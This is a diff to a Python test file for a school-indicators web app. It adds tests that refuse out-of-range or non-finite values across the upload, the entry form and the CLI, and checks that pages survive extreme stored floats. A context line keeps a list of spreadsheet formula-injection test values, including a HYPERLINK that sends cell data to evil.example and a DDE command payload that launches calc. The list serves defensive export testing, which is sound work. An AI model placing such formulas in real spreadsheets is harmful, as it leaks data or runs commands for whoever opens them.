@@ -13,6 +13,7 @@ from docx import Document
 from openpyxl import load_workbook
 
 from core import roadmap_book, roadmap_docx
+from tests.test_pages import app_db  # noqa: F401 - the fixture is used by name
 
 HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"Нажмите")', "+7 900 000-00-00", "@SUM(1+1)*cmd|' /C calc'!A0",
                  "-2+3", "=1+1"]
@@ -108,3 +109,154 @@ def test_ordinary_logins_and_names_pass(demo_db_any):
                         ("a" * 64, "О’Нил Шон")]:
         users.create(admin, login=login, password="длинный-пароль", full_name=name, role="admin", engine=demo_db_any)
         assert auth.login(login, "длинный-пароль", engine=demo_db_any).ok
+
+
+# ---------------------------------------------------------------------------------------------
+# 3. Values within reason
+# ---------------------------------------------------------------------------------------------
+def snapshot(engine) -> tuple:
+    """What a refused write must leave as it found it, on either backend: the values, their history,
+    the uploads and the data version."""
+    from sqlalchemy import text as sql
+
+    with engine.connect() as c:
+        return (c.execute(sql("SELECT school_id, indicator_id, period_id, value, numerator, denominator "
+                              "FROM measurement ORDER BY 1, 2, 3")).all(),
+                c.execute(sql("SELECT COUNT(*) FROM measurementhistory")).scalar(),
+                c.execute(sql("SELECT COUNT(*) FROM upload")).scalar(),
+                c.execute(sql("SELECT value FROM appmeta WHERE key = 'data_version'")).scalar())
+
+
+def _school_id(engine, code):
+    from sqlalchemy import text as sql
+
+    with engine.connect() as c:
+        return c.execute(sql("SELECT id FROM school WHERE code = :c"), {"c": code}).scalar()
+
+
+BEYOND = [  # (indicator, part, value, what the refusal names)
+    ("olympiad_participants", "value", 1e26, "от 0 до 100\u00a0000 (наибольшее правдоподобное для школы)"),
+    ("olympiad_participants", "value", 1e308, "от 0 до 100\u00a0000"),
+    ("start_conditions", "denominator", 1e26, "от 0 до 100\u00a0000 (наибольшее правдоподобное для школы)"),
+    ("edu_quality", "denominator", 5000, "от 0 до 925 (обучающихся в школе по справочнику 610, с запасом в полтора "
+                                         "раза и ещё 10)"),
+    ("teachers_trained", "denominator", 400, "от 0 до 67 (педагогов в школе по справочнику 38"),
+]
+
+
+@pytest.mark.parametrize("code,part,number,named", BEYOND, ids=[f"{c}-{p}-{n:g}" for c, p, n, _ in BEYOND])
+def test_a_value_beyond_its_range_is_refused_by_the_upload(demo_db_any, code, part, number, named):
+    from core.ingest import pipeline
+    from tests.ingest_files import long_table
+    from tests.test_auth import scope_of
+
+    row = ["NEV-02", code, "2024-Q4", None, None, None]
+    if part == "value":
+        row[3] = number
+    else:
+        row[4], row[5] = 3, number
+    data = long_table([row])
+    before = snapshot(demo_db_any)
+    pv = pipeline.prepare(scope_of(demo_db_any, "demo-methodist"), [("значения.xlsx", data)], engine=demo_db_any)
+    texts = [p.text for p in pv.errors]
+    assert not pv.ok and any("вне допустимого диапазона" in t and named in t and "строка 2" in t for t in texts), texts
+    with pytest.raises(Exception):
+        pipeline.apply(scope_of(demo_db_any, "demo-methodist"), pv, data, accept_warnings=True, engine=demo_db_any)
+    assert snapshot(demo_db_any) == before
+
+
+def test_a_value_beyond_its_range_is_refused_by_the_entry_form(demo_db_any):
+    from core import cycle
+    from tests.test_auth import scope_of
+
+    pr = scope_of(demo_db_any, "demo-principal")
+    pv, _ = cycle.prepare_entry(pr, _school_id(demo_db_any, "NEV-02"), "2024-Q4", {
+        "olympiad_participants": {"value": 1e26}, "edu_quality": {"denominator": 1000, "numerator": 10}},
+        engine=demo_db_any)
+    texts = [p.text for p in pv.errors]
+    assert any("Участники олимпиад" in t and "1,0·10²⁶ вне допустимого диапазона: от 0 до 100\u00a0000" in t
+               for t in texts), texts
+    assert any("Обучающихся, прошедших аттестацию" in t and "1\u00a0000 вне допустимого диапазона: от 0 до 925" in t
+               for t in texts), texts
+    assert not pv.ok
+    ok, _ = cycle.prepare_entry(pr, _school_id(demo_db_any, "NEV-02"), "2024-Q4", {
+        "edu_quality": {"denominator": 900, "numerator": 10}}, engine=demo_db_any)  # within the margin
+    assert not any("диапазона" in p.text for p in ok.errors)
+
+
+def test_a_value_beyond_its_range_is_refused_by_the_cli(demo_db_rw, tmp_path, monkeypatch, capsys):
+    from core.ingest.__main__ import main as ingest
+    from tests.ingest_files import long_table
+
+    monkeypatch.setattr("core.ingest.__main__.ensure_database", lambda: demo_db_rw)
+    path = tmp_path / "long.xlsx"
+    path.write_bytes(long_table([["NEV-02", "olympiad_participants", "2024-Q4", 1e26, None, None]]))
+    before = snapshot(demo_db_rw)
+    assert ingest([str(path), "--user", "demo-methodist", "--apply", "--accept-warnings"]) == 1
+    out = capsys.readouterr()
+    assert "вне допустимого диапазона: от 0 до 100\u00a0000" in out.out + out.err
+    assert snapshot(demo_db_rw) == before
+
+
+def test_the_indicator_maximum_is_its_own(demo_db_any):
+    from sqlalchemy import text as sql
+
+    from core.ingest import pipeline
+    from tests.ingest_files import long_table
+    from tests.test_auth import scope_of
+
+    with demo_db_any.begin() as c:
+        c.execute(sql("UPDATE indicator SET max_value = 50 WHERE code = 'olympiad_participants'"))
+    pv = pipeline.prepare(scope_of(demo_db_any, "demo-methodist"),
+                          [("x.xlsx", long_table([["NEV-02", "olympiad_participants", "2024-Q4", 51, None, None]]))],
+                          engine=demo_db_any)
+    assert any("от 0 до 50 (наибольшее допустимое для показателя)" in p.text for p in pv.errors)
+
+
+def test_check_reports_stored_values_outside_their_range(demo_db_any, monkeypatch, capsys):
+    from sqlalchemy import text as sql
+
+    from core import cli, maintenance
+
+    assert not [f for f in maintenance.integrity(demo_db_any) if f.check == "value_range"]
+    with demo_db_any.begin() as c:  # as an import before issue 29 could write
+        c.execute(sql("UPDATE measurement SET value = 1e308 WHERE id = (SELECT MIN(m.id) FROM measurement m "
+                      "JOIN indicator i ON i.id = m.indicator_id WHERE i.code = 'olympiad_participants')"))
+    found = [f for f in maintenance.integrity(demo_db_any) if f.check == "value_range"]
+    assert found and found[0].count == 1 and "1,0·10³⁰⁸" in found[0].detail and "(допустимо от 0 до" in found[0].detail
+    monkeypatch.setattr("core.cli.ensure_database", lambda *a, **k: demo_db_any)
+    assert cli.main(["check"]) == 1
+    assert "значения вне допустимого диапазона" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("x", [float("inf"), float("-inf"), float("nan"), 1e308, -1e308, 1e26, 5e-324])
+def test_formatting_never_breaks_on_a_stored_float(x):
+    from core import formatting as fmt
+
+    for unit in ("%", "чел.", "школ", "балл", ""):
+        assert isinstance(fmt.value(x, unit), str)
+    assert isinstance(fmt.num(x, 2), str) and isinstance(fmt.plural(x, ("школа", "школы", "школ")), str)
+    assert isinstance(fmt.goal("не ниже", x, "%"), str)
+
+
+@pytest.mark.parametrize("stored", [1e308, float("inf")], ids=["1e308", "inf"])
+def test_pages_survive_any_stored_float(app_db, stored):
+    """Defence in depth: a value stored before the range check (or written by hand) must not break
+    the overview, the indicator card or the school page for everyone in the territory."""
+    from sqlalchemy import text as sql
+
+    from core import cli
+    from tests.test_pages import run_as
+
+    with app_db.begin() as c:
+        for code in ("olympiad_participants", "edu_quality"):
+            c.execute(sql("UPDATE measurement SET value = :v, numerator = CASE WHEN numerator IS NULL THEN NULL "
+                          "ELSE :v END, denominator = CASE WHEN denominator IS NULL THEN NULL ELSE :v END "
+                          "WHERE school_id = 2 AND indicator_id = (SELECT id FROM indicator WHERE code = :c)"),
+                      {"v": stored, "c": code})
+        c.execute(sql("UPDATE appmeta SET value = 'planted' WHERE key = 'data_version'"))
+    assert cli.main(["recount"]) == 0  # the summary from the planted values, as a write would keep it
+    for page, params in (("../app_pages/overview.py", {"roadmap": "nev-2024"}), ("../app_pages/school.py", {"school": "2"}),
+                         ("../app_pages/indicator.py", {"roadmap": "nev-2024"})):
+        at = run_as("demo-head", page, **params)
+        assert not at.exception and not [e for e in at.error if "непредвиденная" in e.value], (page, at.error)
